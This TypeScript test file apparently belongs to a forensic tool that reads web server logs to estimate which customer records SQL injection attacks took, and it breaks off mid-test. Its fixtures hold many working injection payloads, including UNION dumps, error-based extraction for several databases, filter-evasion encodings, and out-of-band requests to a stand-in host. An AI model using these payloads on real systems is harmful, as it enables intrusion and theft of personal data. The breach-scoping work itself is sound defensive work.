import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DataSet } from '../../model/data-set.ts';
import { TARGET_LIMIT } from '../../model/shop-event.ts';
import {
  type Exchange,
  itemTarget,
  readExchanges,
  rowsOf,
  toyConfig,
  toyMembers,
  toyTenant,
} from './testing/toy-shop.ts';

const members = toyMembers(40);

/** One request that shows something: its reply is larger the more it holds. */
const shown = (sql: string, more: Partial<Exchange> = {}): Exchange => ({
  target: itemTarget(sql),
  bytes: 6000 + (sql.length % 97),
  ...more,
});

const read = (...sql: string[]) => rowsOf(readExchanges(sql.map((one) => shown(one))), members);

describe('union', () => {
  it.each<[string, Record<string, number[]>]>([
    ['-1 UNION SELECT 1,email,3 FROM members LIMIT 3,2-- ', { email: [3, 4] }],
    [
      "-1' UNION ALL SELECT NULL,CONCAT(0x7162787171,IFNULL(CAST(email AS NCHAR),0x20),0x6b6a,IFNULL(CAST(name AS NCHAR),0x20),0x71),NULL FROM shop.members LIMIT 5,1-- -",
      { 'email,name': [5] },
    ],
    [
      '1 UNION ALL SELECT (SELECT CONCAT(0x71,email,0x3a,phone,0x71) FROM shop.members LIMIT 5,1),NULL#',
      { 'email,phone': [5] },
    ],
    ['5/**/UnIoN/**/SeLeCt/**/1,email,3/**/FROM/**/members/**/LIMIT/**/1/**/OFFSET/**/7', { email: [7] }],
    ['5 /*!50000UNION*/ /*!50000SELECT*/ email FROM `shop`.`Members` LIMIT 2,2', { email: [2, 3] }],
    ["x' UNION SELECT email,name FROM members WHERE id=105-- ", { 'email,name': [5] }],
    ["x') UNION SELECT email,name FROM members WHERE id IN (105,0x313037)-- ", { 'email,name': [5, 7] }],
    [`x' UNION SELECT name,2 FROM members WHERE email='${members[8]!.email}'-- `, { name: [8] }],
    ['1 UNION SELECT email,name FROM members WHERE id BETWEEN 103 AND 105', { 'email,name': [3, 4, 5] }],
    ['1 UNION SELECT email FROM members WHERE id>=102 AND id<105', { email: [2, 3, 4] }],
    ['1 UNION SELECT email FROM members WHERE 137<id', { email: [38, 39] }],
    ["1' UNION SELECT email,NULL FROM public.members ORDER BY id OFFSET 4 LIMIT 2--", { email: [4, 5] }],
    ['1\' UNION SELECT email,NULL FROM public."members" ORDER BY id DESC LIMIT 2--', { email: [38, 39] }],
    [
      '1 UNION SELECT TOP 2 email,NULL FROM shop..members WHERE id NOT IN (SELECT TOP 6 id FROM shop..members ORDER BY id) ORDER BY id',
      { email: [6, 7] },
    ],
    [
      '1 UNION SELECT email,NULL FROM [shop].[dbo].[members] ORDER BY id OFFSET 10 ROWS FETCH NEXT 3 ROWS ONLY--',
      { email: [10, 11, 12] },
    ],
    [
      '1 UNION SELECT email,n FROM (SELECT email,ROW_NUMBER() OVER (ORDER BY id) AS n FROM members) t WHERE n BETWEEN 6 AND 8--',
      { email: [5, 6, 7] },
    ],
    [
      '1 UNION SELECT email,NULL FROM (SELECT email,ROWNUM AS r FROM members WHERE ROWNUM<=8) WHERE r>5',
      { email: [5, 6, 7] },
    ],
    ['1 UNION SELECT email,NULL FROM members WHERE ROWNUM=1', { email: [0] }],
    [
      '1 UNION SELECT email,NULL FROM members ORDER BY id OFFSET 3 ROWS FETCH FIRST 1 ROW ONLY',
      { email: [3] },
    ],
    ['1 UNION TABLE members LIMIT 3,1', { '': [3] }],
    ['1 UNION SELECT * FROM members LIMIT 3,1', { '': [3] }],
    ['1 UNION SELECT m.email,m.name FROM members AS m LIMIT 3,1', { 'email,name': [3] }],
    ['1 UNION SELECT row_to_json(members),2 FROM members LIMIT 1 OFFSET 5', { '': [5] }],
    ['1 UNION SELECT max(email),2 FROM members WHERE id=104', { email: [4] }],
    [
      '1 UNION SELECT 1,json_arrayagg(concat_ws(0x3a,email,name)) FROM (SELECT email,name FROM members LIMIT 10,5) t',
      { 'email,name': [10, 11, 12, 13, 14] },
    ],
  ])('%s', (sql, expected) => {
    expect(read(sql)).toEqual(expected);
  });

  it.each([
    '1 UNION SELECT 1,email FROM members',
    '1 UNION SELECT 1,(SELECT json_arrayagg(email) FROM members)',
    "1' UNION SELECT string_agg(email,',') FROM members--",
    '1 UNION SELECT LISTAGG(email,CHR(44)) WITHIN GROUP (ORDER BY id) FROM members',
    '1 UNION SELECT group_concat(email) FROM members LIMIT 0,1',
    "1 UNION SELECT (SELECT email+',' FROM members FOR XML PATH(''))",
    '1 UNION SELECT email FROM members WHERE 1=1 AND email IS NOT NULL',
    '-1 UNION SELECT 1,(@x:=0x00),(SELECT(@x)FROM(SELECT(@x:=0x00),(SELECT(0)FROM(members)WHERE(0x00)IN(@x:=CONCAT(@x,0x3c62723e,email))))x)',
    '-1 UNION SELECT make_set(6,@:=0x0a,(select(1)from(members)where@:=make_set(511,@,0x3c6c693e,email)),@)',
    "1 AND 1=CAST((SELECT query_to_xml('select email from members',true,true,''))::text AS INT)",
  ])('all: %s', (sql) => {
    const claims = readExchanges([shown(sql)]);
    expect(rowsOf(claims, members)).toEqual({ email: members.map((_, place) => place) });
    expect(claims[0]!.rows[0]).toMatchObject({ existedAt: 1000 });
  });

  it('knows that GROUP_CONCAT may be cut, unless the reply shows that it was not', () => {
    const honest = { target: '/item?id=5', bytes: 5000 };
    const sql = '5 UNION SELECT group_concat(email) FROM members';
    const boundAt = (bytes: number) => readExchanges([honest, shown(sql, { bytes })])[0]!.bound;
    expect([5300, 6024, 20_000].map(boundAt)).toEqual(['exact', 'max', 'exact']);
  });

  it.each([
    ['email', 'email', 147],
    ['email,phone', 'email,phone', 128],
    ['name', 'name', 512],
  ])('counts no more rows than GROUP_CONCAT can have held: %s', (_, columns, atMost) => {
    const honest = { target: '/item?id=5', bytes: 5000 };
    const sql = `5 UNION SELECT group_concat(${columns}) FROM members`;
    const again = [shown(sql, { bytes: 6024 }), shown(sql, { bytes: 6024 })];
    expect(readExchanges([honest, ...again])[0]!.rows).toMatchObject([{ filter: { kind: 'all' }, atMost }]);
    const paged = [0, 1].map((n) => {
      const inner = `(SELECT ${columns} FROM members LIMIT ${n * 20},20) x`;
      return shown(`5 UNION SELECT group_concat(${columns}) FROM ${inner}`, { bytes: 6024 });
    });
    expect(readExchanges([honest, ...paged])[0]!.rows).toEqual([
      expect.not.objectContaining({ atMost: expect.anything() }),
    ]);
  });

  it('takes a query without a limit for one row where the page shows one', () => {
    const claims = readExchanges([
      shown('-1 UNION SELECT 1,email FROM members', { bytes: 5050 }),
      ...[1, 2, 3].map((n) =>
        shown(`-1 UNION SELECT 1,email FROM members LIMIT ${n},1`, { bytes: 5040 + n }),
      ),
    ]);
    expect(rowsOf(claims, members)).toEqual({ email: [0, 1, 2, 3] });
  });
});

describe('errors', () => {
  const inner = 'SELECT IFNULL(CAST(email AS NCHAR),0x20) FROM shop.members ORDER BY id LIMIT 5,1';
  it.each([
    `1 AND EXTRACTVALUE(8,CONCAT(0x5c,0x7162,(SELECT MID((IFNULL(CAST(email AS NCHAR),0x20)),1,21) FROM shop.members ORDER BY id LIMIT 5,1),0x71))`,
    `1' AND UPDATEXML(1,CONCAT(0x2e,0x7162,(${inner}),0x71),2)-- `,
    `1 OR (SELECT 8 FROM(SELECT COUNT(*),CONCAT(0x71,(${inner}),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)`,
    `1 AND exp(~(SELECT*FROM(${inner})x))`,
    `1 AND GTID_SUBSET(CONCAT(0x71,(${inner}),0x71),8)`,
    `1 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x71,(${inner}),0x71)) USING utf8)))`,
    `1 PROCEDURE ANALYSE(EXTRACTVALUE(8,CONCAT(0x5c,(${inner}))),1)`,
    `extractvalue(1,concat(0x7e,(${inner})))`,
    "1' AND 8=CAST((CHR(113)||CHR(112))||(SELECT COALESCE(CAST(email AS VARCHAR(10000)),(CHR(32))) FROM public.members ORDER BY id OFFSET 5 LIMIT 1)::text||(CHR(113)||CHR(112)) AS NUMERIC) AND 'x'='x",
    "1' AND 1=(SELECT email FROM members ORDER BY id OFFSET 5 LIMIT 1)::int--",
    '1 AND 8 IN (SELECT (CHAR(113)+CHAR(112)+(SELECT TOP 1 SUBSTRING((ISNULL(CAST(email AS NVARCHAR(4000)),CHAR(32))),1,1024) FROM shop.dbo.members WHERE id=105)+CHAR(113)))',
    '1 AND 1=CONVERT(INT,(SELECT TOP 1 email FROM members WHERE id NOT IN (SELECT TOP 5 id FROM members)))',
    '1 AND 1=(SELECT TOP 1 email FROM members WHERE id=105)--',
    '1 AND 8=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(REPLACE(REPLACE((SELECT NVL(CAST(EMAIL AS VARCHAR(4000)),CHR(32)) FROM (SELECT EMAIL,ROWNUM AS LIMIT FROM MEMBERS ORDER BY ID ASC) WHERE LIMIT=6),CHR(32),CHR(113)),CHR(64),CHR(113)))||CHR(62))) FROM DUAL)',
    '1 AND 8=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||(SELECT NVL(CAST(EMAIL AS VARCHAR(4000)),CHR(32)) FROM MEMBERS WHERE ID=105)||CHR(113))',
    '1 AND 8=CTXSYS.DRITHSX.SN(8,(CHR(113)||(SELECT EMAIL FROM MEMBERS WHERE ID=105)||CHR(113)))',
  ])('%s', (sql) => {
    expect(rowsOf(readExchanges([shown(sql, { status: 500 })]), members)).toEqual({ email: [5] });
    expect(rowsOf(readExchanges([shown(sql)]), members)).toEqual({ email: [5] });
    expect(readExchanges([shown(sql, { status: 403 })])).toEqual([]);
    expect(readExchanges([shown(sql, { status: 500, bytes: 0 })])).toEqual([]);
  });

  it('joins the columns of a row, and pieces of a value', () => {
    const cell = (place: number, column: string, from = 1) =>
      shown(
        `1 AND EXTRACTVALUE(8,CONCAT(0x5c,(SELECT MID((IFNULL(CAST(${column} AS NCHAR),0x20)),${from},21) FROM members ORDER BY id LIMIT ${place},1)))`,
      );
    const claims = readExchanges(
      [0, 1].flatMap((place) => [cell(place, 'email'), cell(place, 'email', 22), cell(place, 'name')]),
    );
    expect(rowsOf(claims, members)).toEqual({ 'email,name': [0, 1] });
    expect(claims).toMatchObject([{ evidenceCount: 6, from: 1000, to: 6000 }]);
  });
});

describe('what came back', () => {
  const sql = (n: number) => `5 UNION SELECT 1,email,3 FROM members LIMIT ${n},1-- `;

  it.each([301, 302, 400, 403, 404, 406, 429, 500, 503])('nothing with status %i', (status) => {
    expect(readExchanges([shown(sql(3), { status })])).toEqual([]);
  });

  it('nothing in a reply as large as the page without it', () => {
    const page = { target: '/item?id=5', bytes: 5000 };
    const claims = readExchanges([page, shown(sql(1), { bytes: 5031 }), shown(sql(2), { bytes: 5000 })]);
    expect(rowsOf(claims, members)).toEqual({ email: [1] });
  });

  it('nothing with a wrong number of columns', () => {
    const tried = ['email', 'email,2', 'email,2,3', 'email,2,3,4'].map((columns, n) =>
      shown(`-1 UNION SELECT ${columns} FROM members LIMIT 1,1-- `, { bytes: n === 2 ? 5030 : 4100 }),
    );
    expect(readExchanges(tried)).toMatchObject([{ certainty: 'taken', evidenceCount: 1 }]);
  });

  it('perhaps something where all replies are alike', () => {
    const page = { target: '/item?id=5', bytes: 5000 };
    const claims = readExchanges([page, shown(sql(1), { bytes: 5000 }), shown(sql(2), { bytes: 5000 })]);
    expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max' }]);
    expect(claims[0]!.incomplete).not.toEqual([]);
  });

  describe('where the page gives everybody as much', () => {
    const many = (n: number) => `-1 UNION SELECT 1,email,3 FROM members LIMIT ${n},5-- `;
    const readAt = (...exchanges: Exchange[]) =>
      readExchanges(exchanges, toyConfig(), ({ path, bytes }) => path === '/item' && bytes === 5000);

    it('perhaps something', () => {
      const claims = readAt(shown(many(0), { bytes: 5000 }), shown(many(5), { bytes: 5000 }));
      expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max', evidenceCount: 2 }]);
      expect(claims[0]!.incomplete.map(({ en }) => en).join()).toContain('gives everybody');
    });

    it('only what larger replies held, where some were larger', () => {
      const claims = readAt(shown(many(0), { bytes: 9000 }), shown(many(5), { bytes: 5000 }));
      expect(claims).toMatchObject([{ certainty: 'taken', evidenceCount: 1 }]);
      expect(rowsOf(claims, members)).toEqual({ email: [0, 1, 2, 3, 4] });
    });

    it('a single row that is as long by chance is not lost', () => {
      const claims = readAt(shown(sql(1), { bytes: 5031 }), shown(sql(2), { bytes: 5000 }));
      expect(rowsOf(claims, members)).toEqual({ email: [1] });
      expect(rowsOf(claims, members, 'possible')).toEqual({ email: [2] });
    });
  });

  it('no more than what a probe got that finds no row', () => {
    const probe = { target: itemTarget('5 AND 1=2'), bytes: 3100, attacks: 1 };
    const dump = (n: number, bytes: number) =>
      shown(`-5 UNION SELECT 1,mail,3 FROM crm.contacts LIMIT ${n},500-- `, { bytes });
    const some = readExchanges([probe, dump(0, 64_111), dump(500, 3100), dump(1000, 3100)]);
    expect(some).toMatchObject([{ certainty: 'taken', bound: 'max', rows: [{ n: 500 }] }]);
    const none = readExchanges([probe, dump(0, 3100), dump(500, 3100)]);
    expect(none).toMatchObject([{ certainty: 'possible', bound: 'max', rows: [{ n: 1000 }] }]);
  });

  it.each([-1, 0])('perhaps something where the log has no size: %i', (bytes) => {
    const claims = readExchanges([shown(sql(1), { bytes }), shown(sql(2), { bytes })]);
    expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max', evidenceCount: 2 }]);
    expect(claims[0]!.incomplete.map(({ en }) => en).join()).toContain('no size');
  });

  describe('where nobody knows what the page gives to others', () => {
    const readAt = (...exchanges: Exchange[]) => readExchanges(exchanges, toyConfig(), () => null);
    const probe = { target: itemTarget('5 AND 1=2'), bytes: 3100, attacks: 1 };

    it.each<[string, Exchange[]]>([
      ['a single reply', [shown(sql(1), { bytes: 5031 })]],
      ['replies that are all alike', [1, 2, 3].map((n) => shown(sql(n), { bytes: 5031 }))],
      [
        'replies that only repeat the request',
        [1, 10].map((n) => shown(sql(n), { bytes: 5000 + 2 * sql(n).length })),
      ],
    ])('perhaps something: %s', (_, exchanges) => {
      const claims = readAt(...exchanges);
      expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max' }]);
      expect(claims[0]!.incomplete.map(({ en }) => en).join()).toContain('nothing to compare');
    });

    it.each<[string, Exchange[]]>([
      ['replies that differ', [shown(sql(1), { bytes: 5031 }), shown(sql(2), { bytes: 5044 })]],
      ['the page without it', [{ target: '/item?id=5', bytes: 5000 }, shown(sql(1), { bytes: 5031 })]],
      ['a probe that finds no row', [probe, shown(sql(1), { bytes: 5031 })]],
    ])('rows, told by %s', (_, exchanges) => {
      expect(rowsOf(readAt(...exchanges), members).email).toContain(1);
    });
  });

  it('perhaps something where the log has no status', () => {
    const claims = readExchanges([shown(sql(1), { status: -1, bytes: -1 })]);
    expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max' }]);
  });

  it.each([
    '1 ORDER BY 5-- ',
    '1 UNION SELECT NULL,NULL,NULL-- ',
    '1 UNION SELECT version(),user(),database()-- ',
    '1 UNION SELECT table_name,column_name,3 FROM information_schema.columns-- ',
    "1 UNION SELECT name,sql FROM sqlite_master WHERE type='table'",
    '1 UNION SELECT name,id FROM shop..sysobjects',
    '1 UNION SELECT table_name,NULL FROM all_tables',
    '1 UNION SELECT relname,NULL FROM pg_catalog.pg_class',
    '1 UNION SELECT COUNT(*),2 FROM members',
    '1 AND (SELECT COUNT(*) FROM members)>10',
    'x OR 1=1',
    "x' OR 'a'='a",
    '1 AND SLEEP(5)',
    'select gifts from japan',
    '1 AND EXISTS(SELECT email FROM members)',
    "1 AND 'x@mail.example' IN (SELECT email FROM members)",
    "1 AND (SELECT email FROM members LIMIT 1)='x@mail.example'",
    '1 AND (SELECT 8 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT (ELT(8=8,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)',
    '1 AND 8=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)',
    '1 AND 8=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))',
    '1 AND 8=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2)',
    'union jack from london',
  ])('nobody’s data: %s', (sql_) => {
    expect(readExchanges([shown(sql_)])).toEqual([]);
  });

  it.each([
    '1 UNION SELECT LOAD_FILE(CONCAT(0x5c5c,(SELECT email FROM members LIMIT 1),0x2e782e6578616d706c65)),2',
    "1 UNION SELECT email,2 FROM members INTO OUTFILE '/var/www/html/x.txt'",
    "1'||(SELECT UTL_HTTP.REQUEST('http://x.example/'||(SELECT email FROM members WHERE id=104)) FROM dual)||'",
    "1'||(SELECT email FROM members LIMIT 1)||'",
  ])('perhaps: %s', (sql_) => {
    const claims = readExchanges([shown(sql_)]);
    expect(claims.map(({ certainty }) => certainty)).toEqual(['possible']);
  });

  it('the table as a whole, where the rows cannot be told', () => {
    const claims = readExchanges([shown("1 UNION SELECT email,2 FROM members WHERE name LIKE '%a%'")]);
    expect(claims).toMatchObject([
      { certainty: 'possible', bound: 'max', rows: [{ filter: { kind: 'all' } }] },
    ]);
  });

  it('the table as a whole, where the log cut the query', () => {
    const long = `1 UNION SELECT email,2 FROM members WHERE ${'1=1 AND '.repeat(1_000)}`;
    const claims = readExchanges([{ target: itemTarget(long).slice(0, TARGET_LIMIT), bytes: 7000 }]);
    expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max' }]);
  });

  it('the table as a whole, where the query has more parts than are read', () => {
    const long = `1 UNION SELECT email,2 FROM members WHERE id IN (${'1,'.repeat(2_500)}1) LIMIT 0,1`;
    const target = `/item?id=${long.replaceAll(' ', '+')}`;
    expect(target.length).toBeLessThan(TARGET_LIMIT);
    expect(readExchanges([{ target, bytes: 7000 }])).toMatchObject([{ certainty: 'possible', bound: 'max' }]);
  });

  it('rows paged by their key: each but the last', () => {
    const page = (after: number) =>
      shown(`1 UNION SELECT id,email FROM members WHERE id>${after} ORDER BY id LIMIT 1`);
    const claims = readExchanges([0, 100, 101, 102].map(page));
    expect(rowsOf(claims, members)).toEqual({ email: [0, 1, 2] });
    expect(claims[0]!.bound).toBe('min');
  });

  it('pages of rows by their key: each but the last', () => {
    const page = (after: number) =>
      shown(`1 UNION SELECT id,email FROM members WHERE id>${after} ORDER BY id LIMIT 5`);
    const claims = readExchanges([99, 104, 109].map(page));
    expect(rowsOf(claims, members)).toEqual({ email: [0, 1, 2, 3, 4, 5, 6, 7, 8, 9] });
    expect(claims[0]!.bound).toBe('min');
  });

  it('each table of a join its own columns', () => {
    const claims = readExchanges([
      shown('1 UNION SELECT m.email,o.name FROM members m JOIN clubs o ON o.id=m.club WHERE m.id=105'),
    ]);
    expect(claims.map(({ items, rows }) => [items, rows[0]!.kind])).toEqual([
      [['email'], 'shop'],
      [[], 'unnamed'],
    ]);
  });

  it('the filter of a union is no question', () => {
    const claims = readExchanges([
      shown("1' UNION SELECT email,2 FROM members WHERE email LIKE 'a%' LIMIT 5-- "),
    ]);
    expect(claims).toMatchObject([{ certainty: 'possible', bound: 'max' }]);
  });
});

describe('where it stands', () => {
  const sql = "x' UNION SELECT 1,email FROM members LIMIT 4,1-- ";
  const url = encodeURIComponent(sql).replaceAll("'", '%27');
  it.each<[string, Partial<Exchange>]>([
    ['percent', { target: `/item?id=${url}` }],
    ['plus', { target: `/item?id=${sql.replaceAll(' ', '+')}` }],
    ['twice', { target: `/item?id=${url.replaceAll('%', '%25')}` }],
    ['unicode', { target: `/item?id=${url.replace('%27', '%u0027').replaceAll('%20', '%u0020')}` }],
    ['entities', { target: `/item?id=${encodeURIComponent(sql.replace("'", '&#39;'))}` }],
    ['base64', { target: `/item?q=${encodeURIComponent(btoa(sql))}` }],
    ['path', { target: `/item/${url}/view` }],
    [
      'path with comments',
      { target: "/item/x'/**/UNION/**/SELECT/**/1,email/**/FROM/**/members/**/LIMIT/**/4,1" },
    ],
    ['name', { target: `/item?${url}` }],
    ['array', { target: `/item?a[id]=1&a[order]=${url}` }],
    ['Referer', { target: '/item', referer: sql }],
    ['User-Agent', { target: '/item', userAgent: `Mozilla/5.0${sql}` }],
    ['escaped by the log', { target: `/item?id=${sql.replaceAll(' ', '\\x20').replace("'", '\\x27')}` }],
  ])('%s', (_, exchange) => {
    expect(rowsOf(readExchanges([{ bytes: 6000, target: '/', ...exchange }]), members)).toEqual({
      email: [4],
    });
  });

  it('not in the address of the page before', () => {
    expect(readExchanges([{ target: '/style.css', referer: `https://a.example/item?id=${url}` }])).toEqual(
      [],
    );
  });

  it('not with anybody but an actor', () => {
    expect(readExchanges([shown(sql, { actor: null })])).toEqual([]);
  });
});

describe('whose table', () => {
  const sql = '1 UNION SELECT email,2 FROM members LIMIT 3,2';
  const empty = (id: string) => toyTenant(id, { profile: { name: 'none', routes: [], content: [] } });

  it('another tenant’s, when the attacked one has none', () => {
    const claims = readExchanges([shown(sql)], toyConfig([empty('a'), toyTenant('b')]));
    expect(claims).toMatchObject([{ tenant: 'b', bound: 'exact' }]);
    expect(claims[0]!.basis.ja).toContain('「a」');
  });

  it('the attacked one’s, when it has one', () => {
    const claims = readExchanges([shown(sql)], toyConfig([toyTenant('a'), toyTenant('b')]));
    expect(claims.map(({ tenant }) => tenant)).toEqual(['a']);
  });

  it('that of the schema’s name', () => {
    const config = toyConfig([empty('a'), toyTenant('b'), toyTenant('c')]);
    expect(
      readExchanges([shown(sql.replace('members', 'C.members'))], config).map(({ tenant }) => tenant),
    ).toEqual(['c']);
  });

  it('another one’s whose schema the query names, also when the attacked one has such a table', () => {
    const config = toyConfig([toyTenant('a'), toyTenant('b'), toyTenant('c')]);
    const tenantsOf = (table: string) =>
      readExchanges([shown(sql.replace('members', table))], config).map(({ tenant }) => tenant);
    expect(['B.members', 'shop_c.members', 'a.members', 'public.members'].map(tenantsOf)).toEqual([
      ['b'],
      ['c'],
      ['a'],
      ['a'],
    ]);
  });

  it('that of the tenant’s column', () => {
    const config = toyConfig([empty('a'), toyTenant('b'), toyTenant('c')]);
    const claims = readExchanges([shown("1 UNION SELECT email,2 FROM members WHERE site='c'")], config);
    expect(claims).toMatchObject([{ tenant: 'c', bound: 'exact', rows: [{ filter: { kind: 'all' } }] }]);
  });

  it('all of those that have one, at most', () => {
    const config = toyConfig([empty('a'), toyTenant('b'), toyTenant('c')]);
    const claims = readExchanges([shown(sql)], config);
    expect(claims.map(({ tenant, bound }) => [tenant, bound])).toEqual([
      ['b', 'max'],
      ['c', 'max'],
    ]);
  });

  it('nobody’s that is known: rows are counted, persons not', () => {
    const claims = readExchanges([
      shown('1 UNION SELECT mail,2 FROM crm.contacts LIMIT 3,2'),
      shown('1 UNION SELECT mail,2 FROM crm.contacts LIMIT 4,3'),
    ]);
    expect(claims).toMatchObject([
      {
        tenant: 'a',
        items: [],
        certainty: 'taken',
        // A limit is the most that came back.
        bound: 'max',
        rows: [{ kind: 'unnamed', unit: 'records', n: 4, persons: null }],
      },
    ]);
    expect(claims[0]!.basis.en).toContain('crm.contacts');
    const byKey = ['a', 'b', 'a'].map((name) =>
      shown(`1 UNION SELECT tel,2 FROM crm.contacts WHERE email='${name}@mail.example'`),
    );
    expect(readExchanges(byKey)).toMatchObject([{ bound: 'exact', rows: [{ n: 2 }] }]);
    expect(readExchanges([shown('1 UNION SELECT mail,2 FROM crm.contacts')])).toMatchObject([
      { bound: 'min', rows: [{ n: 1 }] },
    ]);
  });

  it('one without data: what is known of the rows themselves', () => {
    const config = toyConfig([toyTenant('a', { data: undefined })]);
    expect(readExchanges([shown(sql)], config)).toMatchObject([
      { items: ['email'], bound: 'max', rows: [{ kind: 'unnamed', n: 2 }] },
    ]);
  });
});

describe('a table of orders', () => {
  const orders: DataSet = {
    name: 'orders',
    table: 'orders',
    id: 'id',
    placedAt: 'ordered_at',
    joins: [],
    person: [['email', ['email']]],
    items: new Map([
      ['email', { columns: ['email'] }],
      ['name', { columns: ['name'] }],
    ]),
  };
  const profile = { name: 'toy', routes: [], content: [], data: new Map([['orders', orders]]) };
  const config = toyConfig([
    toyTenant('a', { profile, data: { kind: 'csv', tables: { orders: 'orders.csv' } } }),
  ]);
  const rowsFor = (sql: string) =>
    readExchanges([shown(sql)], config).map(({ certainty, rows }) => [certainty, rows[0]!]);

  it('by the time of the order, in the zone of the configuration', () => {
    expect(
      rowsFor("1 UNION SELECT name,2 FROM orders WHERE ordered_at>='2022-09-01' AND ordered_at<'2022-09-02'"),
    ).toMatchObject([
      [
        'taken',
        {
          filter: {
            kind: 'every',
            of: [
              { kind: 'between', by: 'placed_at', from: Date.UTC(2022, 7, 31, 15), to: undefined },
              { kind: 'between', by: 'placed_at', from: undefined, to: Date.UTC(2022, 8, 1, 15) - 1 },
            ],
          },
        },
      ],
    ]);
  });

  it('not by a column that only has the name of what the profile calls another', () => {
    const config_ = toyConfig([
      toyTenant('a', {
        profile: { ...profile, data: new Map([['orders', { ...orders, id: 'order_no' }]]) },
        data: { kind: 'csv', tables: { orders: 'orders.csv' } },
      }),
    ]);
    const claims = readExchanges([shown('1 UNION SELECT name,2 FROM orders WHERE id=7')], config_);
    expect(claims).toMatchObject([
      { certainty: 'possible', bound: 'max', rows: [{ filter: { kind: 'all' } }] },
    ]);
  });

  it('one of those with an address, which is not told', () => {
    expect(rowsFor("1 UNION SELECT name,2 FROM orders WHERE email='a@mail.example' LIMIT 1,1")).toMatchObject(
      [['possible', { filter: { kind: 'in', by: 'email', values: ['a@mail.example'] } }]],
    );
  });
});

describe('a table that a data set joins', () => {
  const orders: DataSet = {
    name: 'orders',
    table: 'orders',
    id: 'id',
    joins: [{ alias: 'ship', table: 'order_addresses', on: { order_id: 'id' } }],
    person: [['email', ['email']]],
    items: new Map([
      ['email', { columns: ['email'] }],
      ['delivery_name', { columns: ['ship.name'] }],
      ['delivery_address', { columns: ['ship.street', 'ship.city'] }],
    ]),
  };
  const profile = { name: 'toy', routes: [], content: [], data: new Map([['orders', orders]]) };
  const config = toyConfig([
    toyTenant('a', { profile, data: { kind: 'csv', tables: { orders: 'orders.csv' } } }),
  ]);
  const claimsOf = (sql: string) => readExchanges([shown(sql)], config);

  it('by the key that joins it', () => {
    expect(claimsOf('1 UNION SELECT name,city FROM order_addresses WHERE order_id=7')).toMatchObject([
      {
        items: ['delivery_name', 'delivery_address'],
        certainty: 'taken',
        rows: [{ set: 'orders', filter: { kind: 'in', by: 'id', values: ['7'] } }],
      },
    ]);
  });

  it('as a whole, where only places are told', () => {
    expect(claimsOf('1 UNION SELECT name,city FROM order_addresses LIMIT 5,1')).toMatchObject([
      { certainty: 'possible', bound: 'max' },
    ]);
  });
});

describe('waves', () => {
  it('keeps sets of columns apart, as a breach in three waves', () => {
    const hour = 3_600_000;
    const wave = (start: number, first: number, n: number, columns: string, actor: string) =>
      Array.from({ length: n }, (_, i) =>
        shown(`1 UNION SELECT ${columns},2 FROM members LIMIT ${first + i},1`, {
          at: start + i * 1000,
          actor,
        }),
      );
    const claims = readExchanges([
      ...wave(0, 0, 7, 'email', 'x'),
      ...wave(90 * hour, 7, 384, 'email', 'y'),
      ...wave(2200 * hour, 391, 2934, 'concat_ws(0x3a,name,phone,email,password)', 'z'),
    ]);
    expect(
      claims.map(({ actor, items, rows, evidenceCount }) => [
        actor,
        items,
        rows.map((part) => part.kind === 'shop' && part.filter),
        evidenceCount,
      ]),
    ).toEqual([
      ['x', ['email'], [{ kind: 'positions', by: '', descending: false, ranges: [[0, 7]] }], 7],
      ['y', ['email'], [{ kind: 'positions', by: '', descending: false, ranges: [[7, 384]] }], 384],
      [
        'z',
        ['name', 'phone', 'email', 'password_hash'],
        [{ kind: 'positions', by: '', descending: false, ranges: [[391, 2934]] }],
        2934,
      ],
    ]);
  });
});

describe('with noise', () => {
  it('finds exactly the rows that were given out', () => {
    const request = fc.record({
      place: fc.nat(39),
      columns: fc.constantFrom('email', 'concat(email,name)', 'concat_ws(0x3a,phone,name)'),
      status: fc.constantFrom(200, 200, 200, 403, 500),
      times: fc.integer({ min: 1, max: 2 }),
      form: fc.constantFrom(
        (column: string, n: number) =>
          `-1 UNION SELECT 1,${column},3 FROM members ORDER BY id LIMIT ${n},1-- `,
        (column: string, n: number) =>
          `x' UNION ALL SELECT 1,${column},3 FROM shop.members WHERE id=${100 + n}#`,
        (column: string, n: number) =>
          `1) UNION SELECT 1,(SELECT ${column} FROM members ORDER BY id OFFSET ${n} LIMIT 1),3--`,
      ),
    });
    fc.assert(
      fc.property(fc.array(request, { maxLength: 30 }), (requests) => {
        const given: Record<string, Set<number>> = {};
        const exchanges = requests.flatMap(({ place, columns, status, times, form }) => {
          const items = ['email', 'name', 'phone'].filter((item) => columns.includes(item)).join();
          given[items] ??= new Set();
          if (status === 200) given[items].add(place);
          return Array.from({ length: times }, () => shown(form(columns, place), { status }));
        });
        const expected = Object.fromEntries(
          Object.entries(given)
            .filter(([, places]) => places.size > 0)
            .map(([items, places]) => [items, [...places].sort((a, b) => a - b)]),
        );
        expect(rowsOf(readExchanges(exchanges), members)).toEqual(expected);
      }),
      { numRuns: 200 },
    );
  });

  it('counts rows by their place in a table once where several data sets of a shop lie in it', () => {
    const { profile, ...tenant } = toyTenant('a');
    const members = profile.data!.get('customers')!;
    const staff: DataSet = { ...members, name: 'staff', where: { role: 'admin' } };
    const of = (...sets: DataSet[]) => {
      const data = new Map(sets.map((set) => [set.name, set]));
      const tables = Object.fromEntries(sets.map(({ name }) => [name, 'members.csv']));
      const config = toyConfig([{ ...tenant, profile: { ...profile, data }, data: { kind: 'csv', tables } }]);
      return readExchanges([shown("' UNION SELECT email FROM members LIMIT 4,1-- -")], config).map(
        ({ bound, rows }) => [bound, ...rows.map((row) => (row.kind === 'shop' ? row.set : ''))],
      );
    };
